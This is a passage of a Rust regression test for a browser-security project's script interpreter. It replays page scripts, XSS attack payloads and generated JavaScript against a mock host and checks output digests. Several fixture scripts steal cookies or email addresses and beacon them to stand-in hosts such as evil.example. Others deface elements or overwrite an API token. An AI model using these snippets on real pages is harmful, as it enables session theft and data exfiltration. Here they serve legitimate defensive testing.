//! The script layer pinned to its observable behaviour.
//!
//! A seeded corpus of programs runs through `Interpreter::run` against a
//! recording host, and each program's outcome is reduced to one FNV-1a digest:
//! the result or error string of every `run` call (a program may be a sequence
//! of runs sharing one interpreter's globals) plus the full log of host calls
//! with their arguments and answers. The corpus holds the Figure-4 page scripts
//! and click handlers, the attack and widget scripts of `escudo-apps`, fixed
//! programs for the scoping rules (closures, reads before a `var` runs,
//! implicit globals, `this`, shared globals across runs), and generated
//! programs over closures, loops, strings, arrays, objects and host calls,
//! some of them mutated into lex and parse errors.
//!
//! The digests were computed with the name-keyed scope-chain interpreter that
//! the slot-resolved one replaced. A run that ends in `StepLimitExceeded`
//! contributes only its result string: the step charge of a call is allowed to
//! change, so the host calls made before the limit may differ.

use std::fmt::Write as _;

use escudo::apps::attacks::{calendar_xss_attacks, forum_xss_attacks};
use escudo::script::{
    Host, HostError, HostNodeId, HostXhrId, Interpreter, MockHost, ScriptError, XhrOutcome,
};
use escudo_bench::{figure4_scenarios, generate_page};

/// FNV-1a, 64 bit.
struct Fnv(u64);

impl Fnv {
    fn new() -> Self {
        Fnv(0xcbf2_9ce4_8422_2325)
    }

    fn write(&mut self, bytes: &[u8]) {
        for &byte in bytes {
            self.0 ^= u64::from(byte);
            self.0 = self.0.wrapping_mul(0x0000_0100_0000_01b3);
        }
    }
}

/// xorshift64*: a small seeded generator, so the corpus is the same on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
}

/// A `MockHost` that logs every call with its arguments and its answer.
struct RecordingHost {
    inner: MockHost,
    log: Vec<String>,
}

impl RecordingHost {
    fn new() -> Self {
        let mut inner = MockHost::new();
        for id in [
            "body",
            "app-status",
            "topic-1",
            "event-1",
            "post-body",
            "note-1",
            "headline",
            "display-name",
            "email",
            "api-token",
            "gadget-out",
            "widget-out",
            "out",
            "action-0",
            "action-1",
            "action-2",
        ] {
            inner.add_element(id, "div", &format!("<b>{id}</b>"));
        }
        inner.set_cookie_string("sid=victim; theme=dark");
        inner.xhr_response = "{\"ok\":true}".to_string();
        RecordingHost {
            inner,
            log: Vec::new(),
        }
    }

    fn note<T: std::fmt::Debug>(&mut self, call: String, answer: &T) {
        self.log.push(format!("{call} -> {answer:?}"));
    }
}

impl Host for RecordingHost {
    fn get_element_by_id(&mut self, id: &str) -> Result<Option<HostNodeId>, HostError> {
        let answer = self.inner.get_element_by_id(id);
        self.note(format!("get_element_by_id({id:?})"), &answer);
        answer
    }

    fn get_elements_by_tag_name(&mut self, tag: &str) -> Result<Vec<HostNodeId>, HostError> {
        // MockHost answers in hash order; sort so the log repeats exactly.
        let answer = self.inner.get_elements_by_tag_name(tag).map(|mut nodes| {
            nodes.sort_unstable();
            nodes
        });
        self.note(format!("get_elements_by_tag_name({tag:?})"), &answer);
        answer
    }

    fn create_element(&mut self, tag: &str) -> Result<HostNodeId, HostError> {
        let answer = self.inner.create_element(tag);
        self.note(format!("create_element({tag:?})"), &answer);
        answer
    }

    fn create_text_node(&mut self, text: &str) -> Result<HostNodeId, HostError> {
        let answer = self.inner.create_text_node(text);
        self.note(format!("create_text_node({text:?})"), &answer);
        answer
    }

    fn document_body(&mut self) -> Result<Option<HostNodeId>, HostError> {
        let answer = self.inner.document_body();
        self.note("document_body()".to_string(), &answer);
        answer
    }

    fn document_write(&mut self, html: &str) -> Result<(), HostError> {
        let answer = self.inner.document_write(html);
        self.note(format!("document_write({html:?})"), &answer);
        answer
    }

    fn append_child(&mut self, parent: HostNodeId, child: HostNodeId) -> Result<(), HostError> {
        let answer = self.inner.append_child(parent, child);
        self.note(format!("append_child({parent}, {child})"), &answer);
        answer
    }

    fn remove_child(&mut self, parent: HostNodeId, child: HostNodeId) -> Result<(), HostError> {
        let answer = self.inner.remove_child(parent, child);
        self.note(format!("remove_child({parent}, {child})"), &answer);
        answer
    }

    fn set_attribute(
        &mut self,
        node: HostNodeId,
        name: &str,
        value: &str,
    ) -> Result<(), HostError> {
        let answer = self.inner.set_attribute(node, name, value);
        self.note(
            format!("set_attribute({node}, {name:?}, {value:?})"),
            &answer,
        );
        answer
    }

    fn get_attribute(&mut self, node: HostNodeId, name: &str) -> Result<Option<String>, HostError> {
        let answer = self.inner.get_attribute(node, name);
        self.note(format!("get_attribute({node}, {name:?})"), &answer);
        answer
    }

    fn get_inner_html(&mut self, node: HostNodeId) -> Result<String, HostError> {
        let answer = self.inner.get_inner_html(node);
        self.note(format!("get_inner_html({node})"), &answer);
        answer
    }

    fn set_inner_html(&mut self, node: HostNodeId, html: &str) -> Result<(), HostError> {
        let answer = self.inner.set_inner_html(node, html);
        self.note(format!("set_inner_html({node}, {html:?})"), &answer);
        answer
    }

    fn get_text_content(&mut self, node: HostNodeId) -> Result<String, HostError> {
        let answer = self.inner.get_text_content(node);
        self.note(format!("get_text_content({node})"), &answer);
        answer
    }

    fn tag_name(&mut self, node: HostNodeId) -> Result<String, HostError> {
        let answer = self.inner.tag_name(node);
        self.note(format!("tag_name({node})"), &answer);
        answer
    }

    fn cookie_get(&mut self) -> Result<String, HostError> {
        let answer = self.inner.cookie_get();
        self.note("cookie_get()".to_string(), &answer);
        answer
    }

    fn cookie_set(&mut self, cookie: &str) -> Result<(), HostError> {
        let answer = self.inner.cookie_set(cookie);
        self.note(format!("cookie_set({cookie:?})"), &answer);
        answer
    }

    fn xhr_create(&mut self) -> Result<HostXhrId, HostError> {
        let answer = self.inner.xhr_create();
        self.note("xhr_create()".to_string(), &answer);
        answer
    }

    fn xhr_open(&mut self, xhr: HostXhrId, method: &str, url: &str) -> Result<(), HostError> {
        let answer = self.inner.xhr_open(xhr, method, url);
        self.note(format!("xhr_open({xhr}, {method:?}, {url:?})"), &answer);
        answer
    }

    fn xhr_set_request_header(
        &mut self,
        xhr: HostXhrId,
        name: &str,
        value: &str,
    ) -> Result<(), HostError> {
        let answer = self.inner.xhr_set_request_header(xhr, name, value);
        self.note(
            format!("xhr_set_request_header({xhr}, {name:?}, {value:?})"),
            &answer,
        );
        answer
    }

    fn xhr_send(&mut self, xhr: HostXhrId, body: &str) -> Result<XhrOutcome, HostError> {
        let answer = self.inner.xhr_send(xhr, body);
        self.note(format!("xhr_send({xhr}, {body:?})"), &answer);
        answer
    }

    fn history_length(&mut self) -> Result<usize, HostError> {
        let answer = self.inner.history_length();
        self.note("history_length()".to_string(), &answer);
        answer
    }

    fn history_back(&mut self) -> Result<(), HostError> {
        let answer = self.inner.history_back();
        self.note("history_back()".to_string(), &answer);
        answer
    }

    fn log(&mut self, message: &str) {
        self.inner.log(message);
        self.log.push(format!("log({message:?})"));
    }

    fn alert(&mut self, message: &str) {
        self.inner.alert(message);
        self.log.push(format!("alert({message:?})"));
    }
}

/// One corpus entry: a sequence of sources run on one interpreter.
struct Program {
    origin: String,
    runs: Vec<String>,
}

impl Program {
    fn single(origin: impl Into<String>, source: impl Into<String>) -> Self {
        Program {
            origin: origin.into(),
            runs: vec![source.into()],
        }
    }
}

/// Runs one program and renders its observable outcome as text.
fn transcript(program: &Program) -> String {
    let mut host = RecordingHost::new();
    let mut out = String::new();
    {
        let mut interp = Interpreter::new(&mut host);
        for source in &program.runs {
            match interp.run(source) {
                Ok(value) => writeln!(out, "ok {value}").unwrap(),
                Err(error) => writeln!(out, "err {error}").unwrap(),
            }
        }
    }
    if !out.contains(&format!("err {}", ScriptError::StepLimitExceeded)) {
        for line in &host.log {
            writeln!(out, "  {line}").unwrap();
        }
    }
    out
}

fn digest(text: &str) -> u64 {
    let mut fnv = Fnv::new();
    fnv.write(text.as_bytes());
    fnv.0
}

// ---------------------------------------------------------------- the corpus

/// Every `<script>` body and every `on*="…"` handler in `html`.
fn scripts_in(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find("<script>") {
        let body = &rest[start + "<script>".len()..];
        let end = body.find("</script>").unwrap_or(body.len());
        found.push(body[..end].to_string());
        rest = &body[end..];
    }
    let mut rest = html;
    while let Some(at) = rest.find(" on") {
        let tail = &rest[at + 3..];
        let Some(eq) = tail.find("=\"") else { break };
        if tail[..eq].bytes().all(|b| b.is_ascii_lowercase()) {
            let value = &tail[eq + 2..];
            let end = value.find('"').unwrap_or(value.len());
            found.push(value[..end].to_string());
        }
        rest = tail;
    }
    found
}

fn figure4_programs() -> Vec<Program> {
    let mut programs = Vec::new();
    for scenario in figure4_scenarios() {
        for (index, script) in scripts_in(&generate_page(&scenario))
            .into_iter()
            .enumerate()
        {
            programs.push(Program::single(
                format!("figure4 page {} script {index}", scenario.id),
                script,
            ));
        }
    }
    programs
}

fn app_programs() -> Vec<Program> {
    let mut programs = Vec::new();
    for attack in forum_xss_attacks()
        .into_iter()
        .chain(calendar_xss_attacks())
    {
        for (index, script) in scripts_in(&attack.payload).into_iter().enumerate() {
            programs.push(Program::single(
                format!("{} script {index}", attack.id),
                script,
            ));
        }
    }
    // The scenario registry's ad, widget and gadget scripts and the apps' own.
    let fixed = [
        "var post = document.getElementById('post-body'); post.innerHTML = 'ad takeover';",
        "document.getElementById('post-body').innerHTML = 'defaced by comment';",
        "var note = document.getElementById('note-1'); note.innerHTML = 'defaced by widget';",
        "var loot = document.cookie; var beacon = document.createElement('img');\
         beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
         document.body.appendChild(beacon);",
        "var xhr = new XMLHttpRequest(); xhr.open('POST', '/api/save'); xhr.send('note=widget-spam');",
        "var headline = document.getElementById('headline'); headline.innerHTML = 'ads rule the news';",
        "var loot = document.cookie; var beacon = document.createElement('img');\
         beacon.setAttribute('src', 'http://ad2.example/steal?c=' + loot);\
         document.body.appendChild(beacon);",
        "var name = document.getElementById('display-name').textContent;\
         var out = document.getElementById('gadget-out'); out.innerHTML = 'hello ' + name;",
        "var loot = document.getElementById('email').textContent;\
         var beacon = document.createElement('img');\
         beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
         document.body.appendChild(beacon);",
        "var token = document.getElementById('api-token'); token.innerHTML = 'tok-hijacked';",
        "var forumVersion = '2.0';",
        "var statusEl = document.getElementById('app-status');\
         if (statusEl != null) { statusEl.innerHTML = 'ready'; }",
        "var el = document.getElementById('app-status');\
         if (el != null) { el.innerHTML = 'calendar ready'; }",
        "var text = document.getElementById('ad-text-1');\
         if (text != null) { text.innerHTML = 'buy things from ad1'; }",
    ];
    for (index, source) in fixed.iter().enumerate() {
        programs.push(Program::single(format!("app script {index}"), *source));
    }
    programs
}

/// Hand-written programs for the scoping rules and the error paths.
fn scoping_programs() -> Vec<Program> {
    let singles = [
        "function f() { return x; } var x = 1; f();",
        "var x = 'g'; function f() { var r = x; var x = 'l'; return r + x; } f();",
        "var x = 'g'; function f() { var out = ''; for (var i = 0; i < 3; i++) { out += x; var x = 'l' + i; } return out; } f();",
        "function f() { return typeof y; } f();",
        "function f() { y = 3; } f(); y;",
        "function outer() { function inner() { z = 'deep'; } inner(); } outer(); z;",
        "function P(v) { this.v = v; this.twice = v * 2; } var p = new P(4); p.v + ':' + p.twice;",
        "this;",
        "function f(a, a) { return a; } f(1, 2);",
        "function f(this) { return this; } f(5);",
        "function f(a, b) { return b; } f(1);",
        "function f(a) { return a; } f(1, 2, 3);",
        "document = 5; window.document;",
        "var document = 1; document;",
        "window.alert('via window'); window.history.length;",
        "var w = window.document.getElementById('out'); w.innerHTML = 'w'; w.innerHTML;",
        "f(); function f() { return 1; }",
        "var f = 1; function g() { return f(); } g();",
        "function fact(n) { if (n <= 1) { return 1; } return n * fact(n - 1); } fact(10);",
        "function mk(start) { var count = start; return function() { count += 1; return count; }; } var a = mk(1); var b = mk(10); a(); a(); b(); a() + ':' + b();",
        "function pair() { var v = 0; var o = {get: function() { return v; }, inc: function() { v++; }}; return o; } var p = pair(); p.inc(); p.inc(); p.get();",
        "function a() { var x = 1; function b() { function c() { return x + y; } var y = 2; return c(); } return b(); } a();",
        "function a() { function c() { return late; } var r1 = typeof c; var late = 'now'; return r1 + c(); } a();",
        "var fs = []; for (var i = 0; i < 3; i++) { fs.push(function() { return i; }); } fs[0]() + fs[1]() + fs[2]();",
        "var s = ''; for (var i = 0; i < 5; i++) { if (i == 3) { continue; } if (i == 4) { break; } s += i; } s;",
        "var n = 0; while (n < 10) { n += 3; } n;",
        "x++;",
        "x = x + 1;",
        "var u; u;",
        "var o = {}; o.push(1);",
        "null.x;",
        "undefined.y = 1;",
        "var a = []; a[3] = 1; a.length + ':' + a[1] + ':' + a[3];",
        "var a = [1, 2]; a['1'] = 'b'; a.k = 'prop'; a[1] + a.k + a.length;",
        "var o = {1: 'one', 'two': 2, three: 3}; o[1] + o.two + o['three'];",
        "var o = {}; o.x += 1; o.x;",
        "'日本語'.length + ':' + 'añb'.indexOf('b');",
        "'abc'.foo;",
        "(5).length;",
        "var s = 'ab'; s.indexOf('b') + s.indexOf('z') + s.length;",
        "1 == '1';",
        "null == 0;",
        "'' == 0;",
        "true + 1;",
        "'3' * '4';",
        "'b' > 'a';",
        "NaN;",
        "1 / 0;",
        "-1 / 0 + '';",
        "0.1 + 0.2;",
        "1e3;",
        "1.5.2;",
        "var a = 1, b = 2;",
        "var q = 'unterminated;",
        "/* open",
        "var x = @;",
        "if (x { }",
        "function () {}",
        "1 +",
        "foo(1,",
        "3 = x;",
        "var = 3;",
        "var f = function g() {};",
        "{ var blockScoped = 1; } blockScoped;",
        "var t = typeof alert + typeof document + typeof 1 + typeof 'x' + typeof null + typeof undefined + typeof function() {};",
        "var c = 0; var r = (c++, c);",
        "var x = 1 ? 'a' : 'b'; var y = 0 ? 'a' : 0 ? 'b' : 'c'; x + y;",
        "var a = 0 || 'd'; var b = 1 && 'e'; var c = 0 && crash(); a + b + c;",
        "var i = 5; var j = i++ + ++i; i + ':' + j;",
        "var i = 5; i -= 2; i += '1'; i;",
        "document.cookie = 'k=v'; document.cookie;",
        "document.write('<p>hi</p>'); document.write();",
        "console.log(1, 'two', null, undefined, true, {}, [1]);",
        "var xhr = new XMLHttpRequest(); xhr.open('GET', '/x'); xhr.setRequestHeader('A', 'b'); xhr.send(); xhr.status + xhr.responseText;",
        "var x = new XMLHttpRequest; x.open('GET', '/y'); x.send('b');",
        "var d = document.createElement('div'); d.setAttribute('id', 'made'); document.body.appendChild(d); d.getAttribute('id') + d.tagName + d.id;",
        "var t = document.createTextNode('txt'); document.body.appendChild(t); document.body.removeChild(t); t.textContent;",
        "var b = document.body; b.textContent = 'replaced'; b.innerHTML;",
        "var ns = document.getElementsByTagName('div'); ns.length + ':' + ns[0].id;",
        "document.getElementById('nope');",
        "document.getElementById('nope').innerHTML = 'x';",
        "history.back(); history.length;",
        "var f = document.getElementById; f('out');",
        "document.createElement('p').appendChild(5);",
        "var x = new XMLHttpRequest(); x.open.call;",
        "new alert('x');",
        "new 5;",
        "var o = {f: function() { return this.v; }, v: 9}; o.f();",
        "function C() { this.self = this; } var c = new C(); c.self === c;",
        "var a = [1, 2, 3]; var s = 0; for (var i = 0; i < a.length; i++) { s += a[i]; } s;",
        "var a = [[1, 2], [3]]; a[0][1] + a[1][0] + a[1].length;",
        "var big = ''; for (var i = 0; i < 40; i++) { big = big + i; } big.length;",
        "while (true) { var x = 1; }",
        "for (;;) { console.log('spin'); }",
        "function f(n) { return f(n + 1); } f(0);",
        "function g(n) { console.log(n); return g(n + 1); } g(0);",
        "var o = {a: 1}; o = o.b; o;",
        "var f = function(a) { return function(b) { return function(c) { return a + b + c; }; }; }; f(1)(2)(3);",
        "function counter() { var n = 0; return {inc: function() { n++; return n; }}; } var c1 = counter(); c1.inc(); var c2 = counter(); c2.inc(); c1.inc() + c2.inc();",
    ];
    let mut programs: Vec<Program> = singles
        .iter()
        .enumerate()
        .map(|(index, source)| Program::single(format!("scoping {index}"), *source))
        .collect();
    let sequences: [&[&str]; 6] = [
        &[
            "var a = 1; function inc() { a++; return a; }",
            "inc(); inc();",
            "a;",
        ],
        &["function setG() { g = 'implicit'; }", "setG();", "g;"],
        &[
            "var mk = function() { var n = 0; return function() { n++; return n; }; }; var c = mk();",
            "c(); c();",
            "c();",
        ],
        &["missing;", "var missing = 2;", "missing;"],
        &["var s = 'x'", "s = s + s; s + s;", "syntax error here (", "s;"],
        &[
            "document.getElementById('out').innerHTML = 'first';",
            "var el = document.getElementById('out'); el.innerHTML;",
            "window.document = 7; document;",
        ],
    ];
    for (index, runs) in sequences.iter().enumerate() {
        programs.push(Program {
            origin: format!("sequence {index}"),
            runs: runs.iter().map(|s| (*s).to_string()).collect(),
        });
    }
    programs
}

/// Generated programs over a small pool of names.
struct Gen {
    rng: Rng,
    functions: usize,
    loop_depth: usize,
    in_function: bool,
}

const NAMES: [&str; 8] = ["a", "b", "c", "s", "n", "arr", "obj", "el"];
const IDS: [&str; 7] = [
    "out",
    "app-status",
    "note-1",
    "out",
    "app-status",
    "note-1",
    "missing",
];

impl Gen {
    fn name(&mut self) -> &'static str {
        self.rng.pick(&NAMES)
    }

    fn literal(&mut self) -> String {
        match self.rng.below(9) {
            0 => format!("{}", self.rng.below(20)),
            1 => format!("{}.{}", self.rng.below(5), self.rng.below(100)),
            2 => format!("'{}'", self.rng.pick(&["x", "ab", "", "12", " 7 ", "é"])),
            3 => "\"q\\\"t\\n\"".to_string(),
            4 => self.rng.pick(&["true", "false"]).to_string(),
            5 => self.rng.pick(&["null", "undefined"]).to_string(),
            6 => format!("[{}, {}]", self.rng.below(9), self.rng.below(9)),
            7 => format!("{{k: {}, 'm': 'v'}}", self.rng.below(9)),
            _ => format!("{}", self.rng.below(3)),
        }
    }

    fn expr(&mut self, depth: usize) -> String {
        if depth == 0 {
            return if self.rng.chance(50) {
                self.name().to_string()
            } else {
                self.literal()
            };
        }
        let d = depth - 1;
        match self.rng.below(16) {
            0..=3 => {
                let op = self.rng.pick(&[
                    "+", "+", "-", "*", "/", "%", "==", "!=", "===", "!==", "<", ">", "<=", ">=",
                    "&&", "||",
                ]);
                format!("({} {op} {})", self.expr(d), self.expr(d))
            }
            4 => {
                let op = self.rng.pick(&["-", "!", "typeof ", "+"]);
                format!("{op}{}", self.expr(d))
            }
            5 => format!("({} ? {} : {})", self.expr(d), self.expr(d), self.expr(d)),
            6 => format!("{}.length", self.name()),
            7 => format!("arr[{}]", self.rng.below(4)),
            8 => format!("obj.{}", self.rng.pick(&["k", "m", "z"])),
            9 => format!("s.indexOf({})", self.expr(d)),
            10 if self.functions > 0 => {
                let f = self.rng.below(self.functions);
                format!("f{f}({}, {})", self.expr(d), self.expr(d))
            }
            11 => {
                let id = self.rng.pick(&IDS);
                format!("document.getElementById('{id}').innerHTML")
            }
            12 => self
                .rng
                .pick(&["document.cookie", "history.length", "window.history.length"])
                .to_string(),
            13 => {
                let name = self.name();
                let op = self.rng.pick(&["=", "+=", "-="]);
                format!("({name} {op} {})", self.expr(d))
            }
            14 => {
                let name = self.name();
                self.rng
                    .pick(&["{}++", "++{}", "{}--"])
                    .replace("{}", name)
                    .to_string()
            }
            _ => self.literal(),
        }
    }

    fn block(&mut self, depth: usize) -> String {
        let count = 1 + self.rng.below(3);
        let mut out = String::from("{ ");
        for _ in 0..count {
            out.push_str(&self.stmt(depth));
            out.push(' ');
        }
        out.push('}');
        out
    }

    fn stmt(&mut self, depth: usize) -> String {
        let leaf = depth == 0;
        let e = 1 + self.rng.below(2);
        match self.rng.below(if leaf { 10 } else { 16 }) {
            0 | 1 => format!("var {} = {};", self.name(), self.expr(e)),
            2 => format!("{} = {};", self.name(), self.expr(e)),
            3 => format!("{} += {};", self.name(), self.expr(e)),
            4 => format!("console.log({}, {});", self.expr(e), self.expr(e)),
            5 => {
                let id = self.rng.pick(&IDS);
                format!(
                    "document.getElementById('{id}').innerHTML = {};",
                    self.expr(e)
                )
            }
            6 => match self.rng.below(6) {
                0 => format!("document.cookie = 'k' + {};", self.expr(e)),
                1 => format!("document.write({});", self.expr(e)),
                2 => format!("alert({});", self.expr(e)),
                3 => format!(
                    "var x = new XMLHttpRequest(); x.open('POST', '/p'); x.send({});",
                    self.expr(e)
                ),
                4 => format!(
                    "var d = document.createElement('span'); d.setAttribute('title', {}); document.body.appendChild(d);",
                    self.expr(e)
                ),
                _ => format!("el = document.getElementById('{}');", self.rng.pick(&IDS)),
            },
            7 => format!("arr.push({});", self.expr(e)),
            8 => format!("arr[{}] = {};", self.rng.below(6), self.expr(e)),
            9 => format!("obj.{} = {};", self.rng.pick(&["k", "m", "z"]), self.expr(e)),
            10 | 11 => {
                let cond = self.expr(e);
                let then = self.block(depth - 1);
                if self.rng.chance(50) {
                    format!("if ({cond}) {then} else {}", self.block(depth - 1))
                } else {
                    format!("if ({cond}) {then}")
                }
            }
            12 => {
                let k = format!("k{}", self.loop_depth);
                let bound = 1 + self.rng.below(4);
                self.loop_depth += 1;
                let mut body = self.block(depth - 1);
                if self.rng.chance(30) {
                    let word = self.rng.pick(&["break", "continue"]);
                    body.insert_str(
                        body.len() - 1,
                        &format!("if ({k} == 1) {{ {word}; }} "),
                    );
                }
                self.loop_depth -= 1;
                format!("for (var {k} = 0; {k} < {bound}; {k}++) {body}")
            }
            13 => {
                let w = format!("w{}", self.loop_depth);
                let bound = 1 + self.rng.below(3);
                self.loop_depth += 1;
                let body = self.block(depth - 1);
                self.loop_depth -= 1;
                format!("var {w} = 0; while ({w} < {bound}) {{ {w}++; {body} }}")
            }
            14 if !self.in_function => self.function(depth),
            15 if self.in_function => format!("return {};", self.expr(e)),
            _ => {
                // A closure over a fresh frame, created and called in place.
                let name = self.name();
                format!(
                    "var mk{d} = function(p) {{ var {name} = p; return function(q) {{ {name} = {name} + q; return {name}; }}; }}; var cl{d} = mk{d}({}); cl{d}(1); cl{d}({});",
                    self.expr(1),
                    self.expr(1),
                    d = depth,
                )
            }
        }
    }

    fn function(&mut self, depth: usize) -> String {
        let index = self.functions;
        let params: Vec<&str> = (0..self.rng.below(4)).map(|_| self.name()).collect();
        self.in_function = true;
        let body = self.block(depth.saturating_sub(1).max(1));
        self.in_function = false;
        self.functions += 1;
        let tail = if self.rng.chance(60) {
            format!(" f{index}({}, {});", self.expr(1), self.expr(1))
        } else {
            String::new()
        };
        format!("function f{index}({}) {body}{tail}", params.join(", "))
    }

    /// Top-level statements; the last is an expression statement.
    fn program(&mut self) -> Vec<String> {
        let mut parts = Vec::new();
        if self.rng.chance(85) {
            parts.push(
                "var a = 1; var b = 'two'; var c = 3.5; var s = 'hello'; var n = 0; \
                 var arr = [1, 'x']; var obj = {k: 1}; var el = document.getElementById('out');"
                    .to_string(),
            );
        }
        for _ in 0..1 + self.rng.below(6) {
            parts.push(self.stmt(2));
        }
        parts.push(format!("{};", self.expr(2)));
        parts
    }
}

/// Mutates a source into (usually) a lex or parse error.
fn mutate(rng: &mut Rng, source: &str) -> String {
    let chars: Vec<char> = source.chars().collect();
    let at = rng.below(chars.len() + 1);
    let mut out: String = chars[..at].iter().collect();
    match rng.below(4) {
        0 => {}
        1 => out.push_str(rng.pick(&["@", "#", "'", "\"", "/*", "\\", "&", "|", "é"])),
        2 => out.push_str(rng.pick(&["(", ")", "{", "}", "[", "]", ";", ",", "=", "?", ":", "."])),
        _ => {
            let skip = (at + 1 + rng.below(4)).min(chars.len());
            out.extend(&chars[skip..]);
            return out;
        }
    }
    out.extend(&chars[at..]);
    out
}

fn generated_programs() -> Vec<Program> {
    let mut rng = Rng(0x5c41_7f00_d1ff);
    let mut programs = Vec::new();
    for index in 0..480 {
        let mut gen = Gen {
            rng: Rng(rng.next() | 1),
            functions: 0,
            loop_depth: 0,
            in_function: false,
        };
        let parts = gen.program();
        match index % 8 {
            // Shared globals: the statements split over two or three runs.
            6 => {
                let mut runs = vec![String::new()];
                for part in parts {
                    if !runs.last().unwrap().is_empty() && runs.len() < 3 && rng.chance(40) {
                        runs.push(String::new());
                    }
                    let run = runs.last_mut().unwrap();
                    run.push_str(&part);
                    run.push(' ');
                }
                programs.push(Program {
                    origin: format!("generated {index} (runs)"),
                    runs,
                });
            }
            7 => programs.push(Program::single(
                format!("generated {index} (mutated)"),
                mutate(&mut rng, &parts.join(" ")),
            )),
            _ => programs.push(Program::single(
                format!("generated {index}"),
                parts.join(" "),
            )),
        }
    }
    programs
}

fn corpus() -> Vec<Program> {
    let mut programs = figure4_programs();
    programs.extend(app_programs());
    programs.extend(scoping_programs());
    programs.extend(generated_programs());
    programs
}

/// One digest per corpus program, in corpus order.
const EXPECTED: &str = "\
a643ba292f3a4dad af038e7a81f6295a a643ba292f3a4dad 5e732e19c96a312c af038e7a81f6295a \
915935a102a5e1a3 a643ba292f3a4dad 5e732e19c96a312c e6352d432a7bbb57 af038e7a81f6295a \
915935a102a5e1a3 5bf4180cf4982960 5f4e75df9a68e4bb a643ba292f3a4dad 5e732e19c96a312c \
e6352d432a7bbb57 af038e7a81f6295a 915935a102a5e1a3 5bf4180cf4982960 5f4e75df9a68e4bb \
3fc8ad1df3ae7620 a2d1b36a8275b509 a643ba292f3a4dad 5e732e19c96a312c e6352d432a7bbb57 \
7c5fb09336ee3896 af038e7a81f6295a 915935a102a5e1a3 5bf4180cf4982960 5f4e75df9a68e4bb \
3fc8ad1df3ae7620 a2d1b36a8275b509 6188241dad338efe d226964d40e6ea8f a643ba292f3a4dad \
5e732e19c96a312c e6352d432a7bbb57 7c5fb09336ee3896 eeda800e6750e3b9 064a03e35f85d338 \
76676a3d36e17443 72024bc1002167b2 76113e5aab0f56b5 c2f5e4a3fb50a794 af038e7a81f6295a \
915935a102a5e1a3 5bf4180cf4982960 5f4e75df9a68e4bb 3fc8ad1df3ae7620 a2d1b36a8275b509 \
6188241dad338efe d226964d40e6ea8f d4d38374d92e3464 fac3f4a8eec390ad a643ba292f3a4dad \
5e732e19c96a312c e6352d432a7bbb57 7c5fb09336ee3896 eeda800e6750e3b9 064a03e35f85d338 \
af038e7a81f6295a 915935a102a5e1a3 5bf4180cf4982960 5f4e75df9a68e4bb 3fc8ad1df3ae7620 \
a2d1b36a8275b509 6188241dad338efe d226964d40e6ea8f d4d38374d92e3464 fac3f4a8eec390ad \
b7de17504ba4bb59 84aea1ca628203b0 8941d93b66dd47f5 25abd258772cdd02 92e37464dc2e4b5d \
2a499ea9452e0dfb 6e48d524505c4ad8 a3bbe4d358ae32e7 92e37464dc2e4b5d 2a499ea9452e0dfb \
12c3a3787d3d8730 454cf3ac2e6b680a e3c54d40d43e790f 92e37464dc2e4b5d fac1ae968f365e61 \
9ba6bfbce0fc9277 d735f6b67ce73b0e e52fb7a62f8a5c25 7b6516190188cdc9 04cb7bcaea41a31b \
81a2cce856462ee3 55af10fc9ea1a340 3d7cc4b26a300690 cf8d9bf9c95ca22c 03b2bdbc62ecfb6a \
d7c64d1d960a2284 73f9c099ebef22f1 4e0bdca97eaf92e3 03b975bc62f29fc0 cc789a5a8b2861d7 \
03193aa57917a8f1 10bce2cd45ea457a 03bcdfbc62f589b5 81a2cce856462ee3 81a2cce856462ee3 \
03b2bdbc62ecfb6a 03a515bc62e15396 03b2bdbc62ecfb6a 1d5378380616aa96 d27e1dd7e95c96f0 \
b29d88a9a6b02bdc fd3e17b43aca04cd 39c14c13e3b01738 0cc6572c965ed5b2 03bcdfbc62f589b5 \
03b975bc62f29fc0 f4f67200afbb8fdb 03977dbc62d5c6f2 bb3b21c6609d751e 3562471c1869f378 \
82b6d069bf04c5de 82b6d069bf04c5de 81a2cce856462ee3 91eb6c3372aebe2c cd044d8e9d533ef2 \
d5b9f7cd60f9e77c c42d5112f894c886 f809e7b0fc88f2c4 871eb1adf01b9b8a af98f9169511bcf8 \
227d6ecf27b698e4 81a2cce856462ee3 81a2cce856462ee3 03bcdfbc62f589b5 6e497a24d97fe5b5 \
c3e0a5bc71cfec8e 6e497a24d97fe5b5 03bcdfbc62f589b5 3562471c1869f378 6e497a24d97fe5b5 \
0b312431da048fb9 55b27d166b4693ae 8ee6be6e9e8de4f3 c7aa7381eee3334a 40f7c4650afca09a \
5b20be8a3c09fc49 5cb2992510aae5db 5e7b3ab2e95dd5e6 59bf28cca68c24c4 ac444baaea24ff4a \
551cb44afa8d03d8 51ef3f40a6c067bf 82ae85c3c0c00ca2 bc4a66c9be916f60 e66aea5035d7d600 \
5e945d51a757995f 0558c86b97caf397 03b2bdbc62ecfb6a 81a2cce856462ee3 319cdfffba7928cf \
ea25c11da0be404d e611084059fe2f9c 2d346936c9b3e55f 478b5b1c22efdeb1 44470edeaaa498aa \
153e4f1cb46a2711 51321d6353165426 9b2c6236265ada7d fa4ce88a61aadd5b f841d53a30d6afc1 \
881c32e7733829b2 9a14da5b7af7e7d7 23905f965356af7f aa26b8593ee6755e 0695d78a25dc4705 \
734eac4adc7c1075 677048eafb489912 91f152d99ee1400d 1904a680ec396c48 ce084fe0d857e719 \
7d22d11dfb3a1b07 03977dbc62d5c6f2 6e497a24d97fe5b5 03af57bc62ea1841 03af57bc62ea1841 \
239bb51c0e37af80 0110ac5098ccbed9 0110ac5098ccbed9 974bfa39c0c24df8 b5776b6f0ccc5872 \
81a2cce856462ee3 03af57bc62ea1841 03a877bc62e42ff3 90ec95468c507e35 def30b978fc21d84 \
01278ebd5737907e 069d2c56d0159c00 3606a6772494b05e 803da5e05713bea0 161f9d2ff2cf2059 \
82dbe194d30b4110 42c18f944d893e56 90472c71183770ba 1a25fa9d65e7208d fb551d9e28ea0088 \
